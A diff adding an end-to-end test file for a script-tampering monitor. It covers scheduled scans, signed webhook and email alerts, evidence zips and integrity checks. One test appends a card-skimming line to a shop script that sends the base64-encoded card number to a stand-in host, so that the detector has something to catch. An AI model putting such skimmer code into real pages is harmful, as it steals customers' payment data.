@@ -1,0 +1,196 @@
+// E2E (issue 6's done criteria): serve scans every 2 s; a tampered script reaches a signed webhook and an SMTP
+// server; the evidence zip's manifest verifies; verify passes, then names a flipped blob; a killed browser recovers.
+
+import assert from 'node:assert/strict';
+import { createHash, createHmac } from 'node:crypto';
+import { join } from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import Database from 'better-sqlite3';
+import yauzl from 'yauzl';
+import { baselinedShop, type Scenario } from './scenario.js';
+import { APP_JS } from '../fixtures/shop.js';
+import { startHttpReceiver, startSmtpReceiver, type HttpReceiver, type SmtpReceiver } from '../fixtures/receivers.js';
+import { startServe, type ServeProcess } from '../fixtures/serve-process.js';
+
+const SECRET = 'whsec-e2e-77d1';
+const INTERVAL_MS = 2000;
+
+function readZip(path: string): Promise<Map<string, Buffer>> {
+  return new Promise((resolve, reject) => {
+    yauzl.open(path, { lazyEntries: true }, (error, zip) => {
+      if (error || !zip) return reject(error);
+      const files = new Map<string, Buffer>();
+      zip.on('entry', (entry: yauzl.Entry) => {
+        zip.openReadStream(entry, (err, stream) => {
+          if (err || !stream) return reject(err);
+          const chunks: Buffer[] = [];
+          stream.on('data', (c: Buffer) => chunks.push(c));
+          stream.on('end', () => { files.set(entry.fileName, Buffer.concat(chunks)); zip.readEntry(); });
+        });
+      });
+      zip.on('end', () => resolve(files));
+      zip.readEntry();
+    });
+  });
+}
+
+const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');
+
+describe('continuous monitoring (serve)', () => {
+  let s: Scenario;
+  let hook: HttpReceiver;
+  let smtp: SmtpReceiver;
+  let serve: ServeProcess;
+  let alertId: number;
+
+  before(async () => {
+    hook = await startHttpReceiver();
+    smtp = await startSmtpReceiver();
+    s = await baselinedShop({
+      extraConfig: [
+        'every: 2s',
+        'jitter: 200ms',
+        'notify:',
+        `  - type: webhook`,
+        `    url: ${hook.url}/hook`,
+        '    secret: env:SW_WEBHOOK_SECRET',
+        '    minSeverity: low',
+        '  - type: email',
+        '    smtp: env:SW_SMTP_URL',
+        '    to: [secops@example.com]',
+        '    from: scriptwarden@example.com',
+        'dashboardUrl: https://scriptwarden.internal.example',
+      ].join('\n'),
+      env: { SW_WEBHOOK_SECRET: SECRET, SW_SMTP_URL: `smtp://sw:mail-pass-93c1@127.0.0.1:${smtp.port}` },
+    });
+    serve = await startServe(s.dir, { SW_WEBHOOK_SECRET: SECRET, SW_SMTP_URL: `smtp://sw:mail-pass-93c1@127.0.0.1:${smtp.port}` });
+  });
+  after(async () => {
+    await serve?.stop('SIGKILL');
+    await hook?.close();
+    await smtp?.close();
+    await s?.close();
+  });
+
+  it('scans on schedule and reports its health and metrics', async () => {
+    await serve.waitFor((l) => l.event === 'scan.finished' && l.target === 'checkout', 15_000, 'a first scheduled scan');
+    const health = await fetch(`${serve.url}healthz`);
+    assert.equal(health.status, 200);
+    const report = await health.json() as { status: string; scheduler: { state: string }; targets: { target: string; lastSuccessAt: string | null; schedule: string }[]; browser: { state: string; pid: number } };
+    assert.equal(report.status, 'ok');
+    assert.equal(report.scheduler.state, 'running');
+    assert.equal(report.targets[0]!.target, 'checkout');
+    assert.equal(report.targets[0]!.schedule, 'every 2s');
+    assert.ok(report.targets[0]!.lastSuccessAt, 'the last successful scan is reported');
+    assert.equal(report.browser.state, 'running');
+    assert.ok(report.browser.pid > 0);
+    const metrics = await fetch(`${serve.url}metrics`);
+    assert.match(metrics.headers.get('content-type') ?? '', /^text\/plain; version=0\.0\.4/);
+    const text = await metrics.text();
+    assert.match(text, /^scriptwarden_scans_total\{target="checkout",result="ok"\} [1-9]\d*$/m);
+    assert.match(text, /^scriptwarden_scan_duration_seconds_count\{target="checkout"\} [1-9]/m);
+    assert.match(text, /^scriptwarden_open_alerts\{severity="critical"\} 0$/m);
+    assert.match(text, /^# TYPE scriptwarden_scan_failures_total counter$/m);
+  });
+
+  it('sends a signed webhook within three intervals of a tampered script, and an email', async () => {
+    const tamperedAt = Date.now();
+    s.site.set('shop.test', '/static/app.js', `${APP_JS}\ndocument.getElementById('pay').addEventListener('mouseup', function () { new Image().src = 'http://cdn-stats.test:${s.site.port}/p?d=' + btoa(document.forms[0].cardnumber.value); });`);
+    const deadline = tamperedAt + 3 * INTERVAL_MS + 1500;
+    while (Date.now() < deadline && !hook.received.some((r) => r.path === '/hook')) await new Promise((r) => setTimeout(r, 100));
+    const delivery = hook.received.find((r) => r.path === '/hook');
+    assert.ok(delivery, `a webhook arrived within 3 intervals; logs:\n${serve.logs.map((l) => l.message).join('\n')}`);
+    assert.ok(delivery.at - tamperedAt <= 3 * INTERVAL_MS + 1500, `arrived after ${delivery.at - tamperedAt} ms`);
+    const expected = `sha256=${createHmac('sha256', SECRET).update(delivery.body).digest('hex')}`;
+    assert.equal(delivery.headers['x-scriptwarden-signature'], expected, 'the HMAC of the raw body');
+    const body = JSON.parse(delivery.body) as { event: string; alert: { id: number; type: string; target: string } };
+    assert.equal(body.event, 'alert.opened');
+    assert.equal(body.alert.type, 'script.changed');
+    assert.equal(body.alert.target, 'checkout');
+    alertId = body.alert.id;
+
+    const start = Date.now();
+    while (Date.now() - start < 10_000 && smtp.mails.length === 0) await new Promise((r) => setTimeout(r, 100));
+    const mail = smtp.mails[0];
+    assert.ok(mail, 'the SMTP server received the email');
+    assert.deepEqual(mail.to, ['secops@example.com']);
+    assert.equal(mail.user, 'sw', 'it authenticated with the configured credentials');
+    assert.match(mail.raw, /^Subject: \[scriptwarden\] .*script\.changed on checkout/m);
+    assert.match(mail.raw, /multipart\/alternative/, 'plain text and HTML');
+    const decoded = mail.raw.replace(/=\r?\n/g, '').replace(/=([0-9A-F]{2})/g, (_m, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)));
+    assert.match(decoded, new RegExp(`https://scriptwarden\\.internal\\.example/alerts/${alertId}`));
+
+    // Seen again on later scans: no second notification.
+    const scans = serve.logs.filter((l) => l.event === 'scan.finished').length;
+    await serve.waitFor((l) => serve.logs.filter((x) => x.event === 'scan.finished').length >= scans + 2, 15_000, 'two more scans');
+    assert.equal(hook.received.filter((r) => r.path === '/hook').length, 1, 'an alert notifies once');
+    assert.equal(smtp.mails.length, 1);
+    assert.doesNotMatch(JSON.stringify(serve.logs), /mail-pass-93c1|whsec-e2e/, 'secrets never reach the log');
+    assert.deepEqual(serve.stray, [], 'every stdout line is JSON with --log-format json');
+  });
+
+  it('keeps scanning after the browser is killed mid-scan', async () => {
+    const { browser } = await (await fetch(`${serve.url}healthz`)).json() as { browser: { pid: number; restarts: number } };
+    const started = serve.logs.filter((l) => l.event === 'scan.started').length;
+    await serve.waitFor(() => serve.logs.filter((l) => l.event === 'scan.started').length > started, 10_000, 'a scan to start');
+    await new Promise((r) => setTimeout(r, 300));
+    process.kill(browser.pid, 'SIGKILL');
+    const killedAt = new Date().toISOString();
+    await serve.waitFor((l) => l.event === 'scan.finished' && l.time > killedAt, 30_000, 'a successful scan after the kill');
+    const after = await (await fetch(`${serve.url}healthz`)).json() as { browser: { pid: number; restarts: number; state: string } };
+    assert.notEqual(after.browser.pid, browser.pid, 'a new browser process');
+    assert.ok(after.browser.restarts > browser.restarts);
+    assert.equal(after.browser.state, 'running');
+  });
+
+  it('shuts down cleanly on SIGTERM', async () => {
+    const code = await serve.stop('SIGTERM');
+    assert.equal(code, 0, serve.stderr());
+    assert.ok(serve.logs.some((l) => l.event === 'serve.stopped'));
+    assert.equal(serve.stderr(), '');
+  });
+
+  it('writes an evidence zip whose manifest verifies', async () => {
+    const out = join(s.dir, 'incident.zip');
+    const result = await s.cli('evidence', String(alertId), '--out', out);
+    assert.equal(result.code, 0, result.stderr);
+    const files = await readZip(out);
+    const manifest = JSON.parse(files.get('manifest.json')!.toString('utf8')) as { files: { name: string; sha256: string; size: number }[] };
+    for (const entry of manifest.files) {
+      const bytes = files.get(entry.name);
+      assert.ok(bytes, `${entry.name} is in the zip`);
+      assert.equal(sha256(bytes), entry.sha256, `${entry.name} matches its SHA-256`);
+      assert.equal(bytes.length, entry.size);
+    }
+    const names = manifest.files.map((f) => f.name).sort();
+    for (const name of ['alert.json', 'dom.html', 'initiators.json', 'page.har', 'page.html', 'response.json', 'screenshot.png', 'script-new.js', 'script-old.js', 'tls.json']) {
+      assert.ok(names.includes(name), `${name} is in the bundle (${names.join(', ')})`);
+    }
+    assert.equal(files.get('screenshot.png')!.subarray(1, 4).toString('latin1'), 'PNG');
+    assert.match(files.get('script-new.js')!.toString('utf8'), /cdn-stats\.test/);
+    assert.doesNotMatch(files.get('script-old.js')!.toString('utf8'), /cdn-stats\.test/);
+    const har = JSON.parse(files.get('page.har')!.toString('utf8')) as { log: { version: string; entries: { request: { url: string }; serverIPAddress?: string }[] } };
+    assert.equal(har.log.version, '1.2');
+    assert.ok(har.log.entries.some((e) => e.request.url.endsWith('/static/app.js') && e.serverIPAddress === '127.0.0.1'));
+    assert.match(files.get('page.html')!.toString('utf8'), /<form/i);
+    const alert = JSON.parse(files.get('alert.json')!.toString('utf8')) as { alert: { id: number }; timeline: { seen: unknown[]; notifications: { status: string; channel: string }[] } };
+    assert.equal(alert.alert.id, alertId);
+    assert.ok(alert.timeline.seen.length >= 2, 'every time it was seen');
+    assert.deepEqual(alert.timeline.notifications.map((n) => n.status), ['sent', 'sent']);
+    assert.doesNotMatch(files.get('alert.json')!.toString('utf8'), /mail-pass-93c1/);
+  });
+
+  it('verify passes, then names a blob whose byte was flipped', async () => {
+    const ok = await s.cli('verify');
+    assert.equal(ok.code, 0, ok.stdout + ok.stderr);
+    const db = new Database(join(s.dir, 'scriptwarden.db'));
+    const blob = db.prepare("SELECT b.id, b.sha256, b.data FROM blobs b JOIN evidence e ON e.blob_id = b.id WHERE e.name = 'screenshot.png'").get() as { id: number; sha256: string; data: Buffer };
+    const data = Buffer.from(blob.data);
+    data[Math.floor(data.length / 2)] ^= 0x01;
+    db.prepare('UPDATE blobs SET data = ? WHERE id = ?').run(data, blob.id);
+    db.close();
+    const broken = await s.cli('verify');
+    assert.equal(broken.code, 1);
+    assert.match(broken.stdout, new RegExp(`blob ${blob.sha256}`));
+  });
+});
